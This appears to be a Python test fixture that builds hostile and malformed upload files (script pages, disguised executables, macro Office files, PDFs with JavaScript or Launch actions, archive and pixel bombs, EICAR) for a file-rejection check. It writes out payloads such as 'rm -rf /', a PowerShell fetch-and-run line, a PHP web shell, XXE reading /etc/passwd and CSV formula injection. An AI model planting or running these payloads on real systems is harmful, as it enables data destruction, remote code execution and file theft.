"""Files that mean harm, or that a careless hand might send, by class: (name, bytes). None of them may be stored."""

import gzip
import tarfile
import zlib
from collections.abc import Iterator
from io import BytesIO

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.scoring.files import (
    CATALOG,
    EXCEL,
    WORD,
    archive,
    doubled_member,
    image_stream,
    locked_archive,
    object_stream,
    office,
    pdf,
    picture,
    png_of_claimed_size,
    relation,
    with_part,
)

File = tuple[str, bytes]
SCRIPT = b"<script>alert(1)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_EXCEL = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
BINARY_EXCEL = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"


def written(make) -> bytes:
    """A PDF as a real library writes it."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    make(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def opening(action: str, **more: str):
    """On opening, an action of this kind."""

    def add(writer: PdfWriter) -> None:
        said = {NameObject("/S"): NameObject(action)} | {
            NameObject(f"/{k}"): TextStringObject(v) for k, v in more.items()
        }
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(said)

    return add


def tar() -> bytes:
    out = BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        made.addfile(tarfile.TarInfo("a.txt"))
    return out.getvalue()


def packed(inside: bytes, dictionary: bytes) -> bytes:
    """An object stream under a dictionary of the attacker's own."""
    data = zlib.compress(inside)
    return dictionary % len(data) + b"\nstream\n" + data + b"\nendstream"


JS = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"

MARKUP = {
    "page": ("bao-cao.html", b"<!doctype html>" + SCRIPT),
    "page called pdf": ("bao-cao.pdf", b"<!doctype html>" + SCRIPT),
    "page behind a mark of its encoding": ("a.pdf", b"\xef\xbb\xbf<html>" + SCRIPT),
    "page in sixteen bits": ("a.pdf", "<html><script>alert(1)</script>".encode("utf-16")),
    "xhtml": ("a.xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"),
    "xml with an entity": ("a.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "drawing with script": ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "drawing called png": ("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "drawing packed": ("logo.svgz", gzip.compress(b"<svg onload='alert(1)'/>")),
    "web archive": ("a.mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT),
    "html application": ("a.hta", b"<hta:application/><script>new ActiveXObject('WScript.Shell')</script>"),
    "help file": ("a.chm", b"ITSF\x03\0\0\0" + b"\0" * 80),
}
SCRIPTS = {
    "shell": ("a.docx", b"#!/bin/sh\nrm -rf /\n"),
    "javascript": ("a.js", b"new ActiveXObject('WScript.Shell').Run('cmd')"),
    "visual basic": ("a.vbs", b'CreateObject("WScript.Shell").Run "cmd"'),
    "powershell": ("a.ps1", b"Invoke-WebRequest http://a.vn | iex"),
    "batch": ("a.bat", b"@echo off\r\ndel /s /q C:\\*\r\n"),
    "php": ("anh.jpg", b"<?php system($_GET['c']); ?>"),
    "shortcut": ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60),
    "web shortcut": ("a.url", b"[InternetShortcut]\r\nURL=file://evil/share\r\n"),
    "registry": ("a.reg", b"Windows Registry Editor Version 5.00\r\n"),
    "comma separated with a formula": ("a.csv", b"=cmd|'/c calc'!A1,1\n"),
}
PROGRAMS = {
    "program": ("cai-dat.exe", b"MZ" + b"\0" * 200),
    "program called pdf": ("ho-so.pdf", b"MZ" + b"\0" * 200),
    "program called word": ("ho-so.docx", b"MZ" + b"\0" * 200),
    "linux program": ("a.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 100),
    "mac program": ("a.pdf", b"\xcf\xfa\xed\xfe" + b"\0" * 100),
    "java": ("a.jpg", b"\xca\xfe\xba\xbe\0\0\0\x34"),
    "installer": ("a.msi", OLE),
    "android": ("a.docx", archive({"AndroidManifest.xml": "x", "classes.dex": b"dex\n035"})),
}
ARCHIVES = {
    "zip": ("a.zip", archive({"a.txt": "x"})),
    "zip called word": ("a.docx", archive({"a.txt": "x"})),
    "zip of nothing": ("a.docx", b"PK\x05\x06" + b"\0" * 18),
    "rar": ("nen.rar", b"Rar!\x1a\x07\x00"),
    "seven zip": ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 30),
    "gzip": ("a.pdf.gz", gzip.compress(pdf())),
    "tar": ("a.tar", tar()),
    "cabinet": ("a.cab", b"MSCF\0\0\0\0" + b"\0" * 60),
    "java archive": ("a.jar", archive({"META-INF/MANIFEST.MF": "Main-Class: A"})),
}
OFFICE = {
    "old word": ("cu.doc", OLE),
    "old word under a new name": ("cu.docx", OLE),
    "old excel": ("cu.xls", OLE),
    "word with a password": ("khoa.docx", OLE + b"EncryptedPackage"),
    "rich text": ("a.rtf", rb"{\rtf1\ansi{\object\objocx}}"),
    "open document": ("a.odt", archive({"mimetype": "application/vnd.oasis.opendocument.text"})),
    "slides": ("a.pptx", office(SLIDES)),
    "slides called word": ("a.docx", office(SLIDES)),
    "excel called word": ("a.docx", office(EXCEL)),
    "word called excel": ("a.xlsx", office(WORD)),
    "word with macros": ("a.docm", office(MACRO_WORD)),
    "word with macros under a plain name": ("a.docx", office(MACRO_WORD)),
    "excel with macros under a plain name": ("a.xlsx", office(MACRO_EXCEL)),
    "binary excel": ("a.xlsb", office(BINARY_EXCEL)),
    "word with a macro part": ("a.docx", office(more_types=with_part("application/vnd.ms-office.vbaProject"))),
    "word with a hidden macro": ("a.docx", office(members={"word/vbaProject.bin": b"x"})),
    "excel macro sheet": ("a.xlsx", office(EXCEL, more_types=with_part("application/vnd.ms-excel.macrosheet+xml"))),
    "word with an object": ("a.docx", office(members={"word/embeddings/oleObject1.bin": b"x"})),
    "word with a control": ("a.docx", office(members={"word/activeX/activeX1.bin": b"x"})),
    "word that fetches its template": (
        "a.docx",
        office(members={"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://a.vn/x.dotm")}),
    ),
    "word with a frame": ("a.docx", office(members={"a.rels": relation("frame", "https://a.vn")})),
    "word with an object elsewhere": ("a.docx", office(members={"a.rels": relation("oleObject", "file://a/b.exe")})),
    "word that fetches its template from a share": (
        "a.docx",
        office(members={"word/_rels/settings.xml.rels": relation("attachedTemplate", r"file:///\\evil\share\x.dotm")}),
    ),
    "word that fetches its template from a share by name": (
        "a.docx",
        office(members={"word/_rels/settings.xml.rels": relation("attachedTemplate", r"\\evil\share\x.dotm")}),
    ),
    "word with a program inside": ("a.docx", office(members={"word/embeddings/Bang1.xlsx": b"MZ" + b"\0" * 99})),
    "word with a macro workbook inside": (
        "a.docx",
        office(members={"word/embeddings/Bang1.xlsx": office(MACRO_EXCEL)}),
    ),
    "word with an object two levels down": (
        "a.docx",
        office(
            members={
                "word/embeddings/Bang1.xlsx": office(EXCEL, members={"xl/embeddings/oleObject1.bin": OLE}),
            }
        ),
    ),
    "word with an old workbook inside": ("a.docx", office(members={"word/embeddings/Bang1.xls": OLE})),
    "word in word in word": (
        "a.docx",
        office(members={"word/embeddings/1.docx": office(members={"word/embeddings/2.docx": office()})}),
    ),
    "word with a broken workbook inside": ("a.docx", office(members={"word/embeddings/1.xlsx": office(EXCEL)[:90]})),
    "member locked": ("a.docx", locked_archive()),
    "two members of one name": ("a.docx", doubled_member()),
    "member that leads out": ("a.docx", office(members={"../../etc/passwd": "x"})),
    "member from the root": ("a.docx", office(members={"/etc/passwd": "x"})),
    "types with an entity": (
        "a.docx",
        archive({"[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>', "main.xml": "x"}),
    ),
    "types that are no xml": ("a.docx", archive({"[Content_Types].xml": "<Types", "main.xml": "x"})),
    "types too long": ("a.docx", archive({"[Content_Types].xml": " " * 3_000_000})),
    "broken": ("a.docx", office()[: len(office()) // 2]),
}
PICTURES = {
    "gif with script": ("anh.jpg", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
    "gif": ("anh.gif", picture("GIF", "P")),
    "bitmap": ("anh.bmp", picture("BMP")),
    "tiff": ("anh.tif", picture("TIFF")),
    "webp": ("anh.webp", picture("WEBP")),
    "webp called jpg": ("anh.jpg", picture("WEBP")),
    "heic": ("iphone.heic", b"\0\0\0\x18ftypheic" + b"\0" * 50),
    "heic called jpg": ("iphone.jpg", b"\0\0\0\x18ftypheic" + b"\0" * 50),
    "film": ("phim.mp4", b"\0\0\0\x18ftypmp42" + b"\0" * 50),
    "sound": ("a.mp3", b"ID3\x03\0" + b"\0" * 50),
    "icon": ("a.ico", picture("ICO", size=(16, 16))),
    "photoshop": ("a.psd", b"8BPS\0\x01" + b"\0" * 40),
    "cut short": ("a.jpg", picture(size=(600, 600))[:-300]),
    "png cut short": ("a.png", picture("PNG", size=(600, 600))[:-20]),
    "png header alone": ("a.png", picture("PNG")[:40]),
    "jpeg header alone": ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 30),
    "png called jpg": ("a.jpg", picture("PNG")),
    "jpg called png": ("a.png", picture()),
}
DOUBLE_NATURE = {
    "pdf called jpg": ("anh.jpg", pdf()),
    "jpg called pdf": ("anh.pdf", picture()),
    "pdf with a second extension": ("bao-cao.pdf.exe", pdf()),
    "pdf with a page's extension": ("bao-cao.pdf.html", pdf()),
    "pdf whose true extension is turned round": ("bao-cao\u202efdp.exe", pdf()),
    "name without extension": ("baocao", pdf()),
    "name that is an extension": (".pdf", pdf()),
    "pdf behind other bytes": ("a.pdf", b"GARBAGE" + pdf()),
    "pdf behind a page": ("a.pdf", SCRIPT + pdf()),
    "pdf header and script": ("a.pdf", b"%PDF-1.7\n" + SCRIPT),
    "pdf and zip": ("a.pdf", pdf(tail=archive({"a.html": "x"}))),
    "pdf inside a zip's comment": ("a.pdf", pdf()[:-5] + b"PK\x05\x06" + b"\0" * 16 + b"\x05\x00" + b"%%EOF"),
    "pdf with a tail": ("a.pdf", pdf(tail=b"\n" + SCRIPT)),
    "word with a tail": ("a.docx", office() + SCRIPT),
    "word with a comment": ("a.docx", office()[:-2] + b"\x04\x00PK\x05\x06"),
    "word behind a picture": ("a.docx", picture() + office()),
}
PDF_THAT_ACTS = {
    "script": ("a.pdf", pdf(CATALOG, b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "script spelled in codes": ("a.pdf", pdf(CATALOG, b"<< /S /J#61vaScr#69pt /JS (x) >>")),
    "script as a library writes it": ("a.pdf", written(opening("/JavaScript", JS="app.alert(1)"))),
    "script packed": ("a.pdf", pdf(CATALOG, object_stream(JS))),
    "script packed without a type": (
        "a.pdf",
        pdf(CATALOG, packed(JS, b"<< /N 1 /First 4 /Filter /FlateDecode /Length %d >>")),
    ),
    "script packed, its end feigned by a string": (
        "a.pdf",
        pdf(CATALOG, packed(JS, b"<< /N 1 /First 4 /X (endobj) /Filter /FlateDecode /Length %d >>")),
    ),
    "script packed, its filter hidden by a string": (
        "a.pdf",
        pdf(CATALOG, packed(JS, b"<< /Filter /FlateDecode /X (1 0 obj <<) /Type /ObjStm /First 4 /Length %d >>")),
    ),
    "script packed, its filter hidden by a comment": (
        "a.pdf",
        pdf(CATALOG, packed(JS, b"<< /Filter /FlateDecode\n%%1 0 obj <<\n/Type /ObjStm /First 4 /Length %d >>")),
    ),
    "script of a film": ("a.pdf", pdf(CATALOG, b"<< /S /Rendition /JS (app.alert(1)) >>")),
    "script of a model": ("a.pdf", pdf(CATALOG, b"<< /Type /3D /OnInstantiate 5 0 R >>")),
    "program started": ("a.pdf", pdf(CATALOG, b"<< /S /Launch /F (cmd.exe) >>")),
    "program started as a library writes it": ("a.pdf", written(opening("/Launch", F="cmd.exe"))),
    "another file opened": ("a.pdf", pdf(CATALOG, rb"<< /S /GoToR /F (\\\\evil\\share\\a.pdf) >>")),
    "file inside opened": ("a.pdf", pdf(CATALOG, b"<< /S /GoToE /T << /R /C >> >>")),
    "file inside": ("a.pdf", pdf(CATALOG, b"<< /Type /EmbeddedFile >>")),
    "file inside as a library writes it": ("a.pdf", written(lambda writer: writer.add_attachment("a.exe", b"MZ"))),
    "file pinned to a page": ("a.pdf", pdf(CATALOG, b"<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>")),
    "file inside without a type": ("a.pdf", pdf(CATALOG, b"<< /F (a.exe) /EF << /F 5 0 R >> >>")),
    "film": ("a.pdf", pdf(CATALOG, b"<< /Subtype /RichMedia >>")),
    "old film": ("a.pdf", pdf(CATALOG, b"<< /Subtype /Movie >>")),
    "form that sends": ("a.pdf", pdf(CATALOG, b"<< /S /SubmitForm >>")),
    "form that reads": ("a.pdf", pdf(CATALOG, b"<< /S /ImportData >>")),
    "form with a program": ("a.pdf", pdf(CATALOG, b"<< /AcroForm << /XFA 5 0 R >> >>")),
    "password": ("a.pdf", pdf(CATALOG, b"<< /Encrypt 5 0 R >>")),
    "password as a library sets it": ("a.pdf", written(lambda writer: writer.encrypt("a", algorithm="RC4-128"))),
}
PDF_BROKEN = {
    "cut short": ("a.pdf", pdf()[:-12]),
    "header alone": ("a.pdf", b"%PDF-1.7\n"),
    "objects that cannot be read": ("a.pdf", pdf(CATALOG, object_stream(b"", b"/Filter /LZWDecode", b"zz"))),
    "objects behind a predictor": (
        "a.pdf",
        pdf(CATALOG, object_stream(b"x", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
    ),
    "objects behind two filters": (
        "a.pdf",
        pdf(CATALOG, object_stream(b"x", b"/Filter [/ASCIIHexDecode /FlateDecode]")),
    ),
    "objects broken off": ("a.pdf", pdf(CATALOG, object_stream(b"", packed=zlib.compress(b"x" * 999)[:9]))),
    "too many pages": ("a.pdf", pdf(CATALOG, b"<< /Type /Pages /Count 10000 >>")),
    "too many pages, packed": ("a.pdf", pdf(CATALOG, object_stream(b"1 0 << /Type /Pages /Count 10000 >>"))),
}
BOMBS = {
    "pdf": ("a.pdf", pdf(CATALOG, object_stream(b"\0" * (66 * 1024 * 1024)))),
    "word": ("a.docx", office(members={"bomb.xml": b"\0" * (30 * 1024 * 1024)})),
    "excel": ("a.xlsx", office(EXCEL, members={"bomb.xml": b" " * (30 * 1024 * 1024)})),
    "a thousand small members": ("a.docx", office(members={f"m{n}": b"" for n in range(3_001)})),
    "pixel flood": ("a.png", png_of_claimed_size(60_000, 60_000)),
    "pixel flood just above the limit": ("a.png", png_of_claimed_size(10_001, 5_000)),
    "pixel flood of one line": ("a.png", png_of_claimed_size(2_000_000_000, 1)),
}
EMPTY_AND_TRIED = {
    "nothing": ("rong.pdf", b""),
    "blanks": ("trang.pdf", b" \n" * 40),
    "zeros": ("a.jpg", b"\0" * 4_096),
    "plain text": ("a.txt", "Báo cáo".encode()),
    "scanner's trial": ("eicar.com", EICAR),
    "scanner's trial called pdf": ("a.pdf", EICAR),
    "scanner's trial inside a pdf": ("a.pdf", pdf(CATALOG, image_stream(EICAR))),
}
# What mail programs, disks and other programs pack things into.
CONTAINERS = {
    "disk image": ("a.iso", b"\0" * 32_769 + b"CD001"),
    "disk image called pdf": ("a.pdf", b"\0" * 32_769 + b"CD001"),
    "virtual disk": ("a.vhd", b"conectix" + b"\0" * 504),
    "mac image": ("a.dmg", b"koly" + b"\0" * 508),
    "notebook": ("a.one", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"),
    "letter": ("a.eml", b"From: a@b.vn\r\nContent-Type: text/html\r\n\r\n" + SCRIPT),
    "letter of outlook": ("a.msg", OLE + "__substg1.0_".encode("utf-16-le")),
    "letter's tail": ("winmail.dat", b"\x78\x9f\x3e\x22" + b"\0" * 60),
    "printed by windows": ("a.xps", archive({"[Content_Types].xml": "<Types/>", "FixedDocSeq.fdseq": "<a/>"})),
    "book": ("a.epub", archive({"mimetype": "application/epub+zip", "a.xhtml": "<html/>"})),
    "postscript": ("a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(a) run\n"),
    "postscript called pdf": ("a.pdf", b"%!PS-Adobe-3.0\n(%PDF-1.7) run\n"),
    "database": ("a.accdb", b"\0\x01\0\0Standard ACE DB\0"),
    "font": ("a.png", b"OTTO\0\x0b\0\x80" + b"\0" * 60),
    "web program": ("a.docx", b"\0asm\x01\0\0\0"),
}
CLASSES = {
    "markup": MARKUP,
    "script": SCRIPTS,
    "program": PROGRAMS,
    "archive": ARCHIVES,
    "office": OFFICE,
    "picture": PICTURES,
    "double": DOUBLE_NATURE,
    "pdf acts": PDF_THAT_ACTS,
    "pdf broken": PDF_BROKEN,
    "bomb": BOMBS,
    "empty": EMPTY_AND_TRIED,
    "container": CONTAINERS,
}


def _all() -> Iterator[tuple[str, File]]:
    for kind, cases in CLASSES.items():
        for case, file in cases.items():
            yield f"{kind}: {case}", file


HOSTILE = dict(_all())
